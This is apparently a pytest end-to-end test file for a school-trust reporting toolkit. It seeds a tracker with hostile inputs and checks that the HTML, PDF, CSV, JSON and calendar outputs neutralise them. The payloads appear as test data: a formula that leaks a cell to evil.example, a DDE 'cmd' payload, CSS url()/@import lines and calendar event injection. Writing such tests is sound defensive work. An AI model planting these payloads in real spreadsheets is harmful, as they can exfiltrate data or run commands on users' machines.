"""End to end: a password-protected tracker carrying every attack of issue 10 goes through
the batch, ``designations``, ``compliance`` and ``calendar``, as a user would run them.

The tracker is the sample trust with: school names and rationales that start with
``=``, ``+``, ``-``, ``@`` or a tab; a school name holding ``url(http://...)`` and
``@import``; a line break that would inject calendar events; a 300-character name; control
characters typed as ``_x0000_``; a trust name with ``url(``; and a school whose attendance
cohort is 5 pupils. Every run must succeed, leave nothing outside its output folder,
show no suppressed figure, let no formula run when LibreOffice opens its CSV files, and
write calendars that parse with the right number of events.
"""

from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from icalendar import Calendar

from toolkit.tracker.schema import sheet

pytestmark = pytest.mark.e2e

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "inputs" / "sample_tracker.xlsx"
POLICY = ROOT / "inputs" / "policy.toml"
PASSWORD = "hostile tracker pass"
TERM = "2026/27 Autumn"
AS_OF = "2026-11-20"
SMALL = 900001  # its attendance cohort becomes 5 pupils
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&E2,"x")'
NAMES = {
    900001: FORMULA_NAME,
    900002: "Hollins Lane\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:INJECTED\nEND:VEVENT",
    900003: "St Aldhelm's url(http://evil.example/x.png) @import 'http://evil.example/a.css'",
    900004: "The " + "Exceedingly Long Named " * 12 + "Primary School",  # ~300 characters
    900005: "Brook_x0000_ Academy_x001B_",
}
RATIONALES = ['+cmd|" /C calc"!A0', "@SUM(1+1)", "-2+3", "=1+1", "\t=cmd"]
SMALL_COHORT = {"cohort": 5, "attendance_pct": 87.6, "persistent_absence_pct": 40.0, "suspensions": 2, "permanent_exclusions": 1}


def _columns(key: str) -> dict[str, int]:
    return {c.key: i + 1 for i, c in enumerate(sheet(key).columns)}


def _set_text(cell, value: str) -> None:  # type: ignore[no-untyped-def]
    cell.value = value
    cell.data_type = "s"  # text as typed, even when it starts with "=" (as in Excel with ')


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """The hostile tracker, password-protected, with a policy naming a hostile trust."""
    from msoffcrypto.format.ooxml import OOXMLFile

    folder = tmp_path_factory.mktemp("hostile")
    wb = openpyxl.load_workbook(SAMPLE)
    ws, col = wb[sheet("schools").title], _columns("schools")
    for row in range(2, ws.max_row + 1):
        urn = ws.cell(row, col["urn"]).value
        if urn in NAMES:
            _set_text(ws.cell(row, col["name"]), NAMES[urn])
    ws, col = wb[sheet("assessments").title], _columns("assessments")
    for i, row in enumerate(range(2, 2 + len(RATIONALES))):
        _set_text(ws.cell(row, col["rationale"]), RATIONALES[i])
    ws, col = wb[sheet("attendance").title], _columns("attendance")
    for row in range(2, ws.max_row + 1):
        key_cells = tuple(ws.cell(row, col[k]).value for k in ("urn", "academic_year", "term", "pupil_group"))
        if key_cells == (SMALL, "2026/27", "Autumn", "All pupils"):
            for key, value in SMALL_COHORT.items():
                ws.cell(row, col[key]).value = value
    plain = io.BytesIO()
    wb.save(plain)
    encrypted = io.BytesIO()
    OOXMLFile(io.BytesIO(plain.getvalue())).encrypt(PASSWORD, encrypted)
    path = folder / "hostile.xlsx"
    path.write_bytes(encrypted.getvalue())
    policy = POLICY.read_text()
    policy = re.sub(r'(?m)^name = ".*"$', 'name = "Severn url(http://evil.example/t.png) =cmd Trust"', policy, count=1)
    (folder / "policy.toml").write_text(policy)
    return path


@pytest.fixture()
def env(tmp_path) -> Iterator[dict[str, str]]:
    """The password through the environment; HOME and TMPDIR empty folders to check after.
    TMPDIR is short: Chromium's socket path inside it must fit in 108 bytes."""
    (tmp_path / "home").mkdir()
    tmp = tempfile.mkdtemp(prefix="tk-")
    yield {**os.environ, "PYTHONPATH": str(ROOT), "TOOLKIT_PASSWORD": PASSWORD,
           "HOME": str(tmp_path / "home"), "TMPDIR": tmp}
    shutil.rmtree(tmp, ignore_errors=True)


def toolkit(args: list[str], env: dict[str, str], **kw) -> subprocess.CompletedProcess:  # type: ignore[no-untyped-def]
    return subprocess.run([sys.executable, "-m", "toolkit", *map(str, args)], env=env, cwd=ROOT,
                          capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=900, **kw)


def left_behind(env: dict[str, str]) -> list[str]:
    return [str(p) for key in ("HOME", "TMPDIR") for p in Path(env[key]).rglob("*")]


def spreadsheet_cells(csv_path: Path, work: Path) -> list[tuple[object, str]]:
    """The CSV opened by LibreOffice Calc (formulas evaluated, as a user's spreadsheet would)
    and saved as .xlsx: every cell's value and type (``f`` = a formula)."""
    out = work / "libreoffice"
    run = subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{work}/lo-profile", "--headless", "--convert-to", "xlsx",
         "--outdir", str(out), str(csv_path)], capture_output=True, text=True, timeout=300,
        env={**os.environ, "HOME": str(work)},
    )
    converted = out / f"{csv_path.stem}.xlsx"
    assert converted.exists(), run.stderr
    wb = openpyxl.load_workbook(converted)
    return [(c.value, c.data_type) for r in wb.active.iter_rows() for c in r]


def assert_no_formula(csv_path: Path, work: Path, expect_text: str | None = None) -> None:
    cells = spreadsheet_cells(csv_path, work)
    formulas = [v for v, t in cells if t == "f"]
    assert formulas == [], f"{csv_path.name}: formulas ran: {formulas}"
    if expect_text:
        assert any(isinstance(v, str) and expect_text in v for v, _ in cells), expect_text


@pytest.fixture(scope="module")
def soffice() -> str:
    exe = shutil.which("soffice")
    assert exe, "LibreOffice Calc is needed (scripts/system-deps.sh installs it)"
    return exe


def test_libreoffice_runs_formulas_from_a_raw_csv(tmp_path, soffice):
    """The check below can fail: a CSV written without neutralising does run in Calc."""
    raw = tmp_path / "raw.csv"
    raw.write_text(f'name\n"{FORMULA_NAME.replace(chr(34), chr(34) * 2)}"\n')
    assert [t for _, t in spreadsheet_cells(raw, tmp_path)] == ["s", "f"]


def _small_school_texts(text: str) -> None:
    """No figure of the 5-pupil school's attendance, in any form."""
    for leak in ("87.6", "40.0 per 100", "40 per 100"):
        assert leak not in text, leak


def test_batch_makes_every_output_and_leaks_nothing(hostile, env, tmp_path, soffice):
    out = tmp_path / "out"
    run = toolkit(["batch", hostile, "--term", TERM, "--as-of", AS_OF, "--out", out, "--workers", "2",
                   "--schools", SMALL, 900002, 900004, "--no-progress"], env)
    assert run.returncode == 0, run.stdout + run.stderr
    assert PASSWORD not in run.stdout + run.stderr
    run_dir = (out / "2026-27-autumn" / "latest").resolve()
    index = (run_dir / "index.html").read_text()
    assert " 0 failed, 0 to do." in index and "other output(s) failed" not in index
    # Every report rendered despite url( and @import in the school and trust names.
    htmls = sorted(run_dir.rglob("*.html"))
    assert len([h for h in htmls if h.name != "index.html"]) == 8  # 2 trust + 2 for each of 3 schools
    small = [h for h in htmls if h.parent.name.startswith(str(SMALL))]
    assert small
    for page in small:
        text = page.read_text()
        _small_school_texts(text)
        pdf = page.with_suffix(".pdf")
        pdf_text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
        _small_school_texts(pdf_text)
    review = next(h for h in small if "designation" in h.name).read_text()
    assert "suppressed" in review and "&lt;" not in FORMULA_NAME
    # Folder names capped like calendar names.
    assert all(len(p.name) <= 80 for p in run_dir.rglob("*"))
    # CSV opened in LibreOffice: no formula runs; the name is literal text.
    summary = run_dir / "data" / "schools-summary.csv"
    assert_no_formula(summary, tmp_path, "HYPERLINK")
    # Calendars: one per school and the trust, each parsing with its events.
    calendars = sorted((run_dir / "calendars").glob("*.ics"))
    assert len(calendars) == 11
    check_calendars(calendars, hostile, env)
    # No control character reached any output.
    for p in run_dir.rglob("*"):
        if p.suffix in (".html", ".json", ".csv", ".ics"):
            assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", p.read_text()), p
    # Nothing left outside --out: no IPython history, no caches, no decrypted tracker.
    assert left_behind(env) == []
    assert sorted(p.name for p in hostile.parent.iterdir()) == ["hostile.xlsx", "policy.toml"]


def check_calendars(paths: list[Path], tracker_path: Path, env: dict[str, str]) -> None:
    script = (
        "import json, sys\n"
        "from toolkit.tracker import read_tracker\n"
        "from toolkit.calendar.schedule import build_schedule, school_events\n"
        "t = read_tracker(sys.argv[1])\n"
        "ev = build_schedule(t, '2026/27')\n"
        "print(json.dumps({'trust': len(ev), **{str(u): len(school_events(ev, int(u))) for u in t.schools['urn']}}))\n"
    )
    counts = __import__("json").loads(subprocess.run([sys.executable, "-c", script, str(tracker_path)], env=env,
                                                     capture_output=True, text=True, check=True, timeout=300).stdout)
    for path in paths:
        raw = path.read_bytes()
        assert b"\r\nSUMMARY:INJECTED" not in raw
        events = Calendar.from_ical(raw).walk("VEVENT")
        key = "trust" if path.name == "trust.ics" else path.name.split("-")[0]
        assert len(events) == counts[key], path.name
        assert len(path.name) <= len("900000-") + 60 + len(".ics")


@pytest.mark.parametrize("optimize", ["", "1"])
def test_calendar_command_with_and_without_asserts(hostile, env, tmp_path, optimize):
    out = tmp_path / "calendars"
    run = toolkit(["calendar", hostile, "--year", "2026/27", "--out", out], {**env, "PYTHONOPTIMIZE": optimize})
    assert run.returncode == 0, run.stderr
    paths = sorted(out.glob("*.ics"))
    assert len(paths) == 11
    check_calendars(paths, hostile, env)


def test_designations_and_compliance_are_safe_in_every_format(hostile, env, tmp_path, soffice):
    for fmt in ("csv", "json", "table"):
        target = tmp_path / f"designations.{fmt}"
        run = toolkit(["designations", hostile, "--term", TERM, "--format", fmt, "--output", target], env)
        assert run.returncode == 0, run.stderr
        text = target.read_text()
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", text)
        if fmt == "json":
            import json

            schools = {s["urn"]: s for s in json.loads(text)["schools"]}
            _small_school_texts(json.dumps(schools[SMALL]))
    csv_path = tmp_path / "designations.csv"
    _small_school_texts(next(line for line in csv_path.read_text().splitlines() if line.startswith(str(SMALL))))
    assert_no_formula(csv_path, tmp_path, "HYPERLINK")
    run = toolkit(["compliance", hostile, "--as-of", AS_OF, "--format", "csv"], env)
    assert run.returncode == 0, run.stderr
    (tmp_path / "compliance.csv").write_text(run.stdout)
    assert len(run.stdout.splitlines()) > 1
    assert_no_formula(tmp_path / "compliance.csv", tmp_path)
    run = toolkit(["compliance", hostile, "--as-of", AS_OF, "--format", "json"], env)
    assert run.returncode == 0 and not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", run.stdout)
    assert left_behind(env) == []


def test_validation_names_the_control_characters_at_the_cell(hostile, env):
    run = toolkit(["validate", hostile], env)
    assert run.returncode == 0, run.stdout + run.stderr
    text = run.stdout + run.stderr
    assert "control characters" in text and "U+0000" in text and "U+001B" in text
    assert re.search(r"Schools!B\d+", text)
